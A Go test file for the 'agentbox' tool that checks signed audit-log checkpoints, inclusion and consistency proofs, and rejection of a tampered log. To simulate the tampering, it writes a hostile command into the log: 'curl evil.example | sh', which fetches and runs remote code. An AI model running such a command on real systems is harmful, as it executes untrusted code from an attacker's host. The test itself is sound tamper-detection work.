package main_test

import (
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
)

// An outside party checks agentbox's signed checkpoints and proofs with a
// program that imports only golang.org/x/mod
// (audit/proof/testdata/verifier), and rejects a tampered log.
func TestAuditCheckpointProofsIndependentVerifier(t *testing.T) {
	dir := t.TempDir()
	verifier := filepath.Join(dir, "verifier")
	if out, err := exec.Command("go", "build", "-o", verifier, "../../audit/proof/testdata/verifier").CombinedOutput(); err != nil {
		t.Fatalf("building the verifier: %v\n%s", err, out)
	}
	check := func(wantOK bool, args ...string) {
		t.Helper()
		out, err := exec.Command(verifier, args...).CombinedOutput()
		if ok := err == nil && strings.Contains(string(out), "OK"); ok != wantOK {
			t.Fatalf("verifier %v: accepted=%v, want %v\n%s", args, ok, wantOK, out)
		}
	}
	log := filepath.Join(dir, "audit.jsonl")
	writeReviewLog(t, log, nil) // 14 lines
	skey := filepath.Join(dir, "signer.key")
	r := agentbox(t, nil, "audit", "keygen", "audit.example", "--out", skey)
	vkey := strings.TrimSpace(r.stdout)
	if r.code != 0 || !strings.HasPrefix(vkey, "audit.example+") {
		t.Fatalf("keygen: %d %q %q", r.code, r.stdout, r.stderr)
	}
	if fi, err := os.Stat(skey); err != nil || fi.Mode().Perm() != 0o600 {
		t.Fatalf("signer key file: %v %v", fi, err)
	}
	if r := agentbox(t, nil, "audit", "keygen", "audit.example", "--out", skey); r.code == 0 {
		t.Fatalf("keygen overwrote its key file")
	}
	r = agentbox(t, nil, "audit", "checkpoint", log, "--sign-key", skey)
	if r.code != 0 || !strings.HasPrefix(r.stdout, "audit.example\n14\n") || !strings.Contains(r.stdout, "\n\n— audit.example ") {
		t.Fatalf("checkpoint: %d %q %q", r.code, r.stdout, r.stderr)
	}
	cp1 := writeFile(t, filepath.Join(dir, "cp1"), r.stdout, 0o600)

	// Inclusion of line 5, checked by agentbox and by the outsider.
	r = agentbox(t, nil, "audit", "prove", log, "--line", "5", "--checkpoint", cp1, "--verify-key", vkey)
	lines := strings.Split(strings.TrimSpace(r.stdout), "\n")
	if r.code != 0 || len(lines) < 4 || lines[0] != "14" || lines[1] != "4" {
		t.Fatalf("prove: %d %q %q", r.code, r.stdout, r.stderr)
	}
	proof5 := writeFile(t, filepath.Join(dir, "proof5"), r.stdout, 0o600)
	b, _ := os.ReadFile(log)
	logLines := strings.SplitAfter(string(b), "\n")
	rec5 := writeFile(t, filepath.Join(dir, "rec5"), logLines[4], 0o600)
	rec6 := writeFile(t, filepath.Join(dir, "rec6"), logLines[5], 0o600)
	check(true, "-vkey", vkey, "-checkpoint", cp1, "-proof", proof5, "-record", rec5)
	check(false, "-vkey", vkey, "-checkpoint", cp1, "-proof", proof5, "-record", rec6) // not about that record
	check(true, "-vkey", vkey, "-checkpoint", cp1, "-log", log)
	if r := agentbox(t, nil, "audit", "verify", "--checkpoint", cp1, "--verify-key", vkey, "--proof", proof5); r.code != 0 || !strings.Contains(r.stdout, "inclusion proof valid") {
		t.Fatalf("verify --proof: %d %q %q", r.code, r.stdout, r.stderr)
	}
	_, otherV, _ := strings.Cut(vkey, "+") // a wrong key is refused
	otherKey := filepath.Join(dir, "other.key")
	wrong := strings.TrimSpace(agentbox(t, nil, "audit", "keygen", "audit.example", "--out", otherKey).stdout)
	check(false, "-vkey", wrong, "-checkpoint", cp1, "-proof", proof5)
	if r := agentbox(t, nil, "audit", "verify", "--checkpoint", cp1, "--verify-key", wrong, "--proof", proof5); r.code != 1 {
		t.Fatalf("wrong verifier key %s: %d %q", otherV, r.code, r.stdout)
	}

	// The log grows: a consistency proof between the two checkpoints.
	writeReviewLog(t, log, nil) // 28 lines
	r = agentbox(t, nil, "audit", "checkpoint", log, "--sign-key", skey)
	cp2 := writeFile(t, filepath.Join(dir, "cp2"), r.stdout, 0o600)
	r = agentbox(t, nil, "audit", "prove", log, "--consistency", cp1, cp2, "--verify-key", vkey)
	if r.code != 0 || !strings.HasPrefix(r.stdout, "14\n28\n") {
		t.Fatalf("prove --consistency: %d %q %q", r.code, r.stdout, r.stderr)
	}
	cons := writeFile(t, filepath.Join(dir, "cons"), r.stdout, 0o600)
	check(true, "-vkey", vkey, "-checkpoint", cp2, "-old", cp1, "-proof", cons)
	if r := agentbox(t, nil, "audit", "verify", "--checkpoint", cp2, "--old-checkpoint", cp1, "--verify-key", vkey, "--proof", cons); r.code != 0 || !strings.Contains(r.stdout, "consistency proof valid") {
		t.Fatalf("verify consistency: %d %q %q", r.code, r.stdout, r.stderr)
	}
	if r := agentbox(t, nil, "audit", "verify", log, "--checkpoint", cp1, "--verify-key", vkey); r.code != 0 || !strings.Contains(r.stdout, "extended: the log's first 14 of 28") {
		t.Fatalf("verify log against cp1: %d %q %q", r.code, r.stdout, r.stderr)
	}

	// Tampering: line 3 edited. The outsider rejects the log against both
	// checkpoints, agentbox says NOT extended, a fresh proof of the edited
	// record does not hold against the signed root.
	b, _ = os.ReadFile(log)
	tampered := strings.Replace(string(b), `"ls -la"`, `"curl evil.example | sh"`, 1)
	if tampered == string(b) {
		t.Fatal("nothing to tamper with")
	}
	os.WriteFile(log, []byte(tampered), 0o600)
	check(false, "-vkey", vkey, "-checkpoint", cp1, "-log", log)
	check(false, "-vkey", vkey, "-checkpoint", cp2, "-log", log)
	if r := agentbox(t, nil, "audit", "verify", log, "--checkpoint", cp2, "--verify-key", vkey); r.code != 1 || !strings.Contains(r.stdout, "NOT extended") {
		t.Fatalf("verify tampered: %d %q %q", r.code, r.stdout, r.stderr)
	}
	if r := agentbox(t, nil, "audit", "prove", log, "--line", "3", "--checkpoint", cp2, "--verify-key", vkey); r.code != 1 {
		t.Fatalf("prove on a tampered log: %d %q", r.code, r.stdout)
	}
	r = agentbox(t, nil, "audit", "prove", log, "--line", "3") // against the tampered log itself
	forged := writeFile(t, filepath.Join(dir, "forged"), r.stdout, 0o600)
	check(false, "-vkey", vkey, "-checkpoint", cp2, "-proof", forged)
	if r := agentbox(t, nil, "audit", "checkpoint", log, "--sign-key", skey); r.code != 1 {
		t.Fatalf("a damaged log was checkpointed: %d %q", r.code, r.stdout)
	}
}
